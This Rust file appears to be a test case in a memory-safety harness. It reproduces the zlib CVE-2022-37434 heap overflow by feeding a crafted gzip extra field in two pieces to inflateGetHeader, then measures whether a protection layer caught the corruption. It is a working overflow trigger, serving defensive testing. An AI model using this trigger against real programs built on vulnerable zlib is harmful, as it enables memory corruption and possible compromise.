//! Case *cve*: CVE-2022-37434, intended sharing abused.
//!
//! A program that wants the extra field of a gzip header lends zlib a buffer for it
//! (`inflateGetHeader`). When the field arrives in pieces and is longer than the
//! buffer, zlib before 1.2.13 computes a negative length for the second piece and
//! copies about 4 GiB from behind the buffer's end onward.
//!
//! The file is read in small pieces into an array on the stack, as programs do. It
//! also lies more than 4 GiB away from the heap, so that glibc's memcpy copies
//! forward from the first byte (it would copy backward if the ranges overlapped).

use crate::{honest, json::Line, witness, zlib};
use libz_sys as z;
use std::ffi::c_int;

/// Bytes of the buffer lent for the extra field.
const EXTRA_MAX: usize = 64;
/// The attacker's extra field, of which this many bytes arrive first.
const EXTRA_BYTES: usize = 200;
const FIRST_PIECE: usize = EXTRA_MAX + 1;
const SECOND_PIECE: usize = 64;
const ATTACK_BYTE: u8 = b'X';
const VICTIM_BYTE: u8 = 0xA5;
/// A neighbour at most this far behind is adjacent: nothing fits between.
const ADJACENT_BYTES: usize = 2 * EXTRA_MAX;

/// Fixed header (flag FEXTRA, no name, no comment), then the length of the field.
const HEADER: [u8; 12] = [0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 0, 3, EXTRA_BYTES as u8, 0];

/// Vectors of `EXTRA_MAX` bytes, all `VICTIM_BYTE`.
struct Neighbourhood {
    lent: Vec<u8>,
    /// Begins where `lent` ends, the allocator's own slack aside.
    neighbour: Vec<u8>,
    others: Vec<Vec<u8>>,
}

fn neighbourhood() -> Result<Neighbourhood, String> {
    let mut others: Vec<Vec<u8>> = (0..64).map(|_| vec![VICTIM_BYTE; EXTRA_MAX]).collect();
    others.sort_by_key(|one| one.as_ptr() as usize);
    let distance = |at: usize| others[at + 1].as_ptr() as usize - others[at].as_ptr() as usize;
    let first = (0..others.len() - 1)
        .find(|&at| distance(at) < ADJACENT_BYTES)
        .ok_or("no two vectors of the heap are adjacent")?;
    let neighbour = others.remove(first + 1);
    let lent = others.remove(first);
    Ok(Neighbourhood {
        lent,
        neighbour,
        others,
    })
}

fn feed(stream: &mut z::z_stream, piece: &mut [u8]) -> Result<c_int, galeed::Violation> {
    stream.next_in = piece.as_mut_ptr();
    stream.avail_in = piece.len() as u32;
    // SAFETY: the stream was started, its buffers are live. Nothing between here
    // and zlib needs a destructor, should the call be abandoned.
    galeed::catch(|| unsafe { z::inflate(stream, z::Z_NO_FLUSH) })
}

/// Runs the attack, then shows that the program still works.
pub fn run(path: &str) -> Result<String, String> {
    let file = honest::read(path)?;
    let Neighbourhood {
        mut lent,
        neighbour,
        others,
    } = neighbourhood()?;
    lent.fill(0);
    let gap = neighbour.as_ptr() as usize - lent.as_ptr() as usize;
    witness::watch(&neighbour)?;

    let mut stream = zlib::new_stream();
    // SAFETY: the stream stays in this frame as long as zlib knows it.
    unsafe { zlib::start(&mut stream)? };
    let mut output = [0u8; 64];
    stream.next_out = output.as_mut_ptr();
    stream.avail_out = output.len() as u32;
    // SAFETY: all zero is a valid gz_header: null pointers and zero lengths.
    let mut header: z::gz_header = unsafe { std::mem::zeroed() };
    header.extra = lent.as_mut_ptr();
    header.extra_max = EXTRA_MAX as u32;
    // SAFETY: the header and its buffer outlive the stream's use of them.
    let code = unsafe { z::inflateGetHeader(&mut stream, &mut header) };
    if code != z::Z_OK {
        return Err(format!("inflateGetHeader returned {code}"));
    }

    let mut piece = [ATTACK_BYTE; HEADER.len() + FIRST_PIECE];
    piece[..HEADER.len()].copy_from_slice(&HEADER);
    let first = feed(&mut stream, &mut piece);
    if !matches!(first, Ok(z::Z_OK)) {
        return Err(format!("zlib refused the first piece: {first:?}"));
    }
    let second = feed(&mut stream, &mut [ATTACK_BYTE; SECOND_PIECE]);
    // Undefended, nothing below this line is ever reached: see `witness`.

    let neighbour_changed = witness::changed_bytes().ok_or("/proc/self/mem cannot be read")?;
    let others_changed = others
        .iter()
        .flatten()
        .filter(|&&byte| byte != VICTIM_BYTE)
        .count();
    let mut out = Vec::new();
    let survived = zlib::decompress(&file, &mut out).map(|()| honest::digest(&out))?;
    Ok(Line::new("cve")
        .text("zlib", &zlib::version())
        .value("died", false)
        .value("gap_bytes", gap)
        .value("neighbour_changed", neighbour_changed)
        .value("others_changed", others_changed)
        .maybe(
            "violation",
            second.err().map(|violation| violation.to_string()),
        )
        .text("sha256_afterwards", &survived)
        .end())
}
